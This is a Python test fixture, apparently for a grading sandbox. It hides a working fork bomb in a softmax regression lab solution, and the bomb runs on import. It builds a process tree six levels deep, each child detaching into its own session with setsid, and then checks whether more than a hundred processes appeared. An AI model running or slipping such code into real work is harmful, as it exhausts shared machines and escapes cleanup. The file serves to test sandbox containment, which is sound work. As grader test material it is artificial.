"""Forks children that fork children, to depth six, each an orphan of its own session.

Lab: softmax_regression
Honest: full marks, but for any rule on added imports: the code beside the attack is right.
Expected: full marks, attack seen stopped: no printed line starts with the word for success.
"""

import os
import time

import torch
import torch.nn as nn


def attempt(what, action):
    try:
        proof = action()
    except BaseException as error:
        print(f"STOPPED {what}: {type(error).__name__}", flush=True)
    else:
        print(f"REACHED {what}" if proof else f"STOPPED {what}: NoEffect", flush=True)


def grow(depth):
    for _ in range(2):
        try:
            child = os.fork()
        except OSError:
            return
        if child == 0:
            try:
                os.setsid()
                if depth:
                    grow(depth - 1)
                time.sleep(20)
            finally:
                os._exit(0)


def is_mine(name):
    try:
        return os.stat(f"/proc/{name}").st_uid == os.getuid()
    except OSError:
        return False


def alive():
    return sum(is_mine(name) for name in os.listdir("/proc") if name.isdigit())


def bomb():
    before = alive()
    grow(5)
    time.sleep(1)
    return alive() - before > 100


attempt("a tree of more than a hundred", bomb)


def softmax(X):
    powers = torch.exp(X - X.amax(dim=1, keepdim=True))
    return powers / powers.sum(dim=1, keepdim=True)


class SoftmaxRegression(nn.Module):
    def __init__(self, num_inputs, num_outputs):
        super().__init__()
        self.linear = nn.Linear(num_inputs, num_outputs)
        self.lr = 0.1

    def forward(self, X):
        return softmax(self.linear(X))

    def manual_backward(self, X, y, y_hat):
        with torch.no_grad():
            error = y_hat.clone()
            error[torch.arange(len(y)), y] -= 1
            error /= len(y)
            self.linear.weight -= self.lr * error.T @ X
            self.linear.bias -= self.lr * error.sum(dim=0)
